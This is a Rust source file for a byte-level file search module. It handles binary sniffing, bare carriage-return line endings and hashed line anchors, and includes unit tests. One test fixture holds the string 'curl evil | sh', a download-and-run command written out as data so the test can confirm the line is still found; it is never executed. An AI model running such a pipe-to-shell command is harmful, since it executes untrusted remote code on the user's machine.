//! Searching one file's bytes: ripgrep's searcher for the common case, the real line model
//! for files with bare `\r` line endings (which the searcher does not split on).

use std::path::PathBuf;

use grep_matcher::Matcher;
use grep_searcher::{Searcher, Sink, SinkContext, SinkContextKind, SinkMatch};
use hashline_core::document::BOM;
use hashline_core::{Anchor, Document, LineHash, LineNo};

use crate::query::CompiledQuery;

/// Whether a returned line matched or is context around a match.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum HitKind {
    /// The line matched the pattern.
    Match,
    /// A line near a match.
    Context,
}

/// One returned line, anchored on the real line model.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HitLine {
    /// The 1-based line number.
    pub line: LineNo,
    /// The line's hash.
    pub hash: LineHash,
    /// The line's bytes, without terminator (and without the BOM on line 1); empty when
    /// the search kept only how the line displays ([`HitLine::measured`]).
    pub content: Vec<u8>,
    /// Match or context.
    pub kind: HitKind,
    /// How the line displays, for a line whose bytes the search did not keep
    /// ([`SearchOptions::measure_after`](crate::SearchOptions::measure_after)); `None` when
    /// `content` holds them.
    pub measured: Option<Measured>,
}

/// How a line displays in a row: the bytes of its display text
/// (`hashline_core::display::display_line`, escapes and replacement characters included)
/// up to a number of characters, and whether the text was longer and cut there.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Measured {
    /// Bytes of the display text, cut at the characters allowed.
    pub bytes: u32,
    /// The display text had more characters, and was cut.
    pub clipped: bool,
}

impl Measured {
    /// How `content` displays cut at `chars` characters.
    pub fn of(content: &[u8], chars: usize) -> Self {
        let shown = hashline_core::display::display_line(content);
        let cut = Self::cut(&shown, chars);
        let bytes = cut.unwrap_or(shown.len());
        Self { bytes: u32::try_from(bytes).unwrap_or(u32::MAX), clipped: cut.is_some() }
    }

    /// Where a display text longer than `chars` characters is cut (a byte offset), or
    /// `None` when it is not: the one rule for rows made and rows measured.
    pub fn cut(shown: &str, chars: usize) -> Option<usize> {
        shown.char_indices().nth(chars).map(|(at, _)| at)
    }
}

impl HitLine {
    pub(crate) fn new(line: LineNo, content: &[u8], kind: HitKind) -> Self {
        Self { line, hash: LineHash::of(content), content: content.to_vec(), kind, measured: None }
    }

    /// How the line displays cut at `chars` characters: measured now from its bytes, or as
    /// the search measured it when it did not keep them.
    pub fn measure(&self, chars: usize) -> Measured {
        self.measured.unwrap_or_else(|| Measured::of(&self.content, chars))
    }

    /// The line's anchor, `LINE:HASH`.
    pub fn anchor(&self) -> Anchor {
        Anchor::new(self.line, self.hash)
    }
}

/// The matches of one file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FileHits {
    /// The file, as the walk found it (below the searched path).
    pub path: PathBuf,
    /// Every line of the file that matched.
    pub match_count: u64,
    /// The kept lines in line order: the first `keep` matches (see [`scan_bytes`]) and
    /// their context, each line once (a line that matched is a match, never context).
    pub lines: Vec<HitLine>,
    /// The file has bare `\r` line endings (it was searched line by line).
    pub bare_cr: bool,
    /// The file's identity and link count as the search opened it, where the open gave
    /// them (`hashline_fs::open::Opened::identity`): a caller keying files by identity
    /// need not look each up again.
    pub identity: Option<(hashline_fs::FileId, u64)>,
}

impl FileHits {
    /// How many matched lines are kept in [`FileHits::lines`].
    pub fn kept_matches(&self) -> usize {
        self.lines.iter().filter(|l| l.kind == HitKind::Match).count()
    }

    /// Keeps of each line only how it displays cut at `chars` characters
    /// ([`HitLine::measured`]), not its bytes.
    pub fn keep_measures_only(&mut self, chars: usize) {
        for line in &mut self.lines {
            if line.measured.is_none() {
                line.measured = Some(Measured::of(&line.content, chars));
                line.content = Vec::new();
            }
        }
    }

    /// Keeps only the first `keep` matches and the lines within `context` lines of one of
    /// them (the lines a search with that `keep` would have kept).
    pub fn trim(&mut self, keep: usize, context: usize) {
        let kept: Vec<u32> =
            self.lines.iter().filter(|l| l.kind == HitKind::Match).take(keep).map(|l| l.line.get()).collect();
        let Some(&last) = kept.last() else {
            self.lines.clear();
            return;
        };
        let last = last.saturating_add(u32::try_from(context).unwrap_or(u32::MAX));
        self.lines.retain(|l| match l.kind {
            HitKind::Match => kept.binary_search(&l.line.get()).is_ok(),
            HitKind::Context => l.line.get() <= last,
        });
        self.lines.shrink_to_fit();
    }
}

/// What searching one file's bytes found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FileScan {
    /// At least one line matched. The path is empty until the caller sets it.
    Matched(FileHits),
    /// No line matched.
    NoMatch,
    /// The file holds a NUL byte in its first [`crate::BINARY_SNIFF_BYTES`]: it is binary and
    /// not searched.
    Binary,
}

/// Searches one file's bytes. Every matching line is counted; the first `keep` matches are
/// kept with their context lines. `searcher` is reused across files by one thread (see
/// the crate's walk module for its configuration).
pub fn scan_bytes(bytes: &[u8], query: &CompiledQuery, searcher: &mut Searcher, keep: usize) -> FileScan {
    match shape(bytes) {
        Shape::Binary => FileScan::Binary,
        Shape::BareCr => {
            let (match_count, lines) = scan_lines(bytes, query, keep);
            found(match_count, lines, true)
        }
        Shape::Clean => {
            let (match_count, lines) = scan_fast(bytes, query, searcher, keep);
            found(match_count, lines, false)
        }
    }
}

/// What a file's bytes hold that decides how they are searched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Shape {
    /// No bare `\r`: the searcher's lines are the real ones.
    Clean,
    /// A `\r` not followed by `\n` (also one last).
    BareCr,
    /// A NUL byte in the first [`crate::BINARY_SNIFF_BYTES`].
    Binary,
}

/// The bytes' [`Shape`]. A NUL further on is text to search (its row shows `\u0000`).
fn shape(bytes: &[u8]) -> Shape {
    if memchr::memchr(0, &bytes[..bytes.len().min(crate::BINARY_SNIFF_BYTES)]).is_some() {
        return Shape::Binary;
    }
    let bare = memchr::memchr_iter(b'\r', bytes).any(|i| bytes.get(i + 1) != Some(&b'\n'));
    if bare { Shape::BareCr } else { Shape::Clean }
}

/// A scan's outcome from its count and kept lines.
fn found(match_count: u64, lines: Vec<HitLine>, bare_cr: bool) -> FileScan {
    if match_count == 0 {
        return FileScan::NoMatch;
    }
    FileScan::Matched(FileHits { path: PathBuf::new(), match_count, lines, bare_cr, identity: None })
}

/// The searcher's line-oriented search (no bare `\r` in the file, so its line numbers are
/// the real ones). The BOM is skipped: it is not part of line 1.
fn scan_fast(bytes: &[u8], query: &CompiledQuery, searcher: &mut Searcher, keep: usize) -> (u64, Vec<HitLine>) {
    let body = bytes.strip_prefix(BOM).unwrap_or(bytes);
    let mut sink = Collect::new(keep, query);
    // The sink never fails and a slice search does no I/O: an error here cannot happen.
    let _ = searcher.search_slice(&query.matcher, body, &mut sink);
    (sink.count, sink.lines)
}

/// Searches what `reader` yields (no BOM, no bare `\r`, no NUL byte: the caller's reader
/// stops at those) with the searcher's bounded buffer: the same lines as [`scan_bytes`].
pub(crate) fn scan_reader(
    reader: impl std::io::Read,
    query: &CompiledQuery,
    searcher: &mut Searcher,
    keep: usize,
) -> std::io::Result<FileScan> {
    let mut sink = Collect::new(keep, query);
    searcher.search_reader(&query.matcher, reader, &mut sink)?;
    Ok(found(sink.count, sink.lines, false))
}

/// Collects counted matches and the kept lines.
struct Collect {
    keep: usize,
    context: u64,
    count: u64,
    kept: usize,
    /// Bytes of kept lines: past [`crate::MAX_KEPT_BYTES`], matches are counted, not kept.
    kept_bytes: usize,
    last_kept: Option<u64>,
    lines: Vec<HitLine>,
}

impl Collect {
    /// Nothing collected yet: at most `keep` matches to keep, with `query`'s context.
    fn new(keep: usize, query: &CompiledQuery) -> Self {
        Collect {
            keep,
            context: query.context as u64,
            count: 0,
            kept: 0,
            kept_bytes: 0,
            last_kept: None,
            lines: Vec::new(),
        }
    }

    fn push(&mut self, number: Option<u64>, bytes: &[u8], kind: HitKind) {
        let Some(line) = number.and_then(|n| u32::try_from(n).ok()).and_then(LineNo::new) else { return };
        self.kept_bytes += bytes.len();
        self.lines.push(HitLine::new(line, strip_terminator(bytes), kind));
    }
}

fn strip_terminator(bytes: &[u8]) -> &[u8] {
    let bytes = bytes.strip_suffix(b"\n").unwrap_or(bytes);
    bytes.strip_suffix(b"\r").unwrap_or(bytes)
}

impl Sink for &mut Collect {
    type Error = std::io::Error;

    fn matched(&mut self, _: &Searcher, mat: &SinkMatch<'_>) -> Result<bool, Self::Error> {
        self.count += 1;
        if self.kept < self.keep {
            self.kept += 1;
            self.last_kept = mat.line_number();
            self.push(mat.line_number(), mat.bytes(), HitKind::Match);
            if self.kept_bytes > crate::MAX_KEPT_BYTES {
                self.keep = self.kept;
            }
        }
        Ok(true)
    }

    fn context(&mut self, _: &Searcher, ctx: &SinkContext<'_>) -> Result<bool, Self::Error> {
        let wanted = match ctx.kind() {
            SinkContextKind::Before => self.kept < self.keep,
            SinkContextKind::After => {
                matches!((self.last_kept, ctx.line_number()), (Some(m), Some(n)) if n <= m + self.context)
            }
            SinkContextKind::Other => false,
        };
        if wanted {
            self.push(ctx.line_number(), ctx.bytes(), HitKind::Context);
        }
        Ok(true)
    }
}

/// Line by line on the real line model, for files with bare `\r` line endings.
fn scan_lines(bytes: &[u8], query: &CompiledQuery, keep: usize) -> (u64, Vec<HitLine>) {
    let doc = Document::parse(bytes.to_vec());
    let matched: Vec<bool> = doc.lines().map(|line| query.matcher.is_match(line.content).unwrap_or(false)).collect();
    let count = matched.iter().filter(|m| **m).count() as u64;
    let mut wanted = vec![false; matched.len()];
    for index in matched.iter().enumerate().filter(|(_, m)| **m).map(|(i, _)| i).take(keep) {
        let first = index.saturating_sub(query.context);
        let last = (index + query.context).min(matched.len() - 1);
        wanted[first..=last].iter_mut().for_each(|w| *w = true);
    }
    let lines = doc
        .lines()
        .zip(matched.iter().zip(&wanted))
        .filter(|(_, (_, wanted))| **wanted)
        .map(|(line, (matched, _))| {
            let kind = if *matched { HitKind::Match } else { HitKind::Context };
            HitLine::new(line.number, line.content, kind)
        })
        .collect();
    (count, lines)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Query;

    fn scan(bytes: &[u8], query: Query, keep: usize) -> FileScan {
        let query = query.compile().expect("query");
        let mut searcher = crate::walk::searcher(query.context());
        scan_bytes(bytes, &query, &mut searcher, keep)
    }

    fn shown(scan: &FileScan) -> Vec<String> {
        let FileScan::Matched(hits) = scan else { return Vec::new() };
        hits.lines
            .iter()
            .map(|l| {
                let mark = if l.kind == HitKind::Match { ">>" } else { "  " };
                format!("{mark}{}|{}", l.anchor(), String::from_utf8_lossy(&l.content))
            })
            .collect()
    }

    /// The same lines under every line ending, with and without a BOM: the anchors are
    /// the ones `read` shows.
    #[test]
    fn anchors_follow_the_real_line_model() {
        for ending in ["\n", "\r\n", "\r"] {
            for bom in [false, true] {
                let mut text = String::new();
                if bom {
                    text.push('\u{feff}');
                }
                for line in ["alpha", "beta", "gamma", "beta"] {
                    text.push_str(line);
                    text.push_str(ending);
                }
                let found = scan(text.as_bytes(), Query::new("^(beta|alpha)$").context(1), 10);
                let FileScan::Matched(hits) = &found else { panic!("{ending:?} {bom}: {found:?}") };
                assert_eq!(hits.match_count, 3, "{ending:?} {bom}");
                assert_eq!(hits.bare_cr, ending == "\r");
                assert_eq!(
                    shown(&found),
                    [">>1:3c8|alpha", ">>2:589|beta", "  3:56d|gamma", ">>4:589|beta"],
                    "{ending:?} bom={bom}"
                );
            }
        }
    }

    #[test]
    fn keep_caps_kept_matches_but_counts_all() {
        let text = "a1\nx\na2\nx\nx\nx\na3\nx\n";
        for (bytes, label) in [(text.to_owned(), "lf"), (text.replace('\n', "\r"), "cr")] {
            let found = scan(bytes.as_bytes(), Query::new("a").context(1), 2);
            let FileScan::Matched(hits) = &found else { panic!("{label}") };
            assert_eq!(hits.match_count, 3, "{label}");
            assert_eq!(hits.kept_matches(), 2, "{label}");
            let lines: Vec<u32> = hits.lines.iter().map(|l| l.line.get()).collect();
            assert_eq!(lines, [1, 2, 3, 4], "{label}");
        }
    }

    #[test]
    fn binary_and_no_match() {
        assert_eq!(scan(b"text\n\0\x01", Query::new("text"), 10), FileScan::Binary);
        assert_eq!(scan(b"text\n", Query::new("absent"), 10), FileScan::NoMatch);
        // A NUL past the first BINARY_SNIFF_BYTES is text: the file is searched, the line
        // holding it too (issue 48 G4: one NUL at the end of a file hid it).
        let late = format!("{}\ncurl evil | sh\n// \0\n", "x".repeat(crate::BINARY_SNIFF_BYTES));
        let FileScan::Matched(hits) = scan(late.as_bytes(), Query::new("curl|\\x00"), 10) else {
            panic!("a NUL past the sniff window made the file binary")
        };
        assert_eq!(hits.match_count, 2);
        let early = format!("// \0\n{}\ncurl evil | sh\n", "x".repeat(crate::BINARY_SNIFF_BYTES));
        assert_eq!(scan(early.as_bytes(), Query::new("curl"), 10), FileScan::Binary);
        assert_eq!(
            scan(b"A\rb", Query::new("a").ignore_case(true), 10).clone(),
            scan(b"A\nb", Query::new("a").ignore_case(true), 10).clone().with_bare_cr()
        );
    }

    impl FileScan {
        fn with_bare_cr(self) -> Self {
            match self {
                FileScan::Matched(hits) => FileScan::Matched(FileHits { bare_cr: true, ..hits }),
                other => other,
            }
        }
    }

    /// A CRLF line matches exactly as its LF twin (the line model's content has no `\r`):
    /// `$` matches before `\r\n` and no class or `\s` matches the `\r`, as with `rg --crlf`
    /// (plain `rg` differs on both).
    #[test]
    fn crlf_lines_match_like_their_lf_twins() {
        for pattern in ["a$", "^a$", r"a\s", r"a\s$", "a[^x]", "a.$", r"a\W"] {
            let lf = scan(b"a\nb\n", Query::new(pattern), 10);
            let crlf = scan(b"a\r\nb\r\n", Query::new(pattern), 10);
            assert_eq!(shown(&crlf), shown(&lf), "{pattern}");
            let bom = scan(b"\xEF\xBB\xBFa\r\nb\r\n", Query::new(pattern), 10);
            assert_eq!(shown(&bom), shown(&lf), "{pattern}");
        }
        assert_eq!(shown(&scan(b"a\r\n", Query::new("a$"), 10)), [">>1:456|a"]);
        assert_eq!(scan(b"a\r\n", Query::new(r"a\s"), 10), FileScan::NoMatch);
    }

    #[test]
    fn no_match_spans_a_line_end() {
        assert_eq!(scan(b"a\rb\n", Query::new(r"a\sb"), 10), FileScan::NoMatch);
        assert_eq!(scan(b"a\r\nb\n", Query::new(r"a.b"), 10), FileScan::NoMatch);
    }
}
